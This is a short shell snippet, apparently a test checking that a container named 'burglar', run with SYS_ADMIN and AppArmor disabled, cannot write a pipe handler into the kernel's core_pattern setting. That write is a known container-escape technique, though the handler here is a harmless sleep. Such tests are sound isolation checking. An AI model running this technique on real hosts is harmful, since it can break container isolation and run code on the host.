# says: The kernel's settings are still read-only in burglar: /proc/sys is mounted there as ro.
docker run -d --name burglar --cap-add SYS_ADMIN --security-opt apparmor=unconfined alpine sleep 3600
docker exec burglar sh -c 'echo "|/usr/bin/sleep 3600" > /proc/sys/kernel/core_pattern' || true
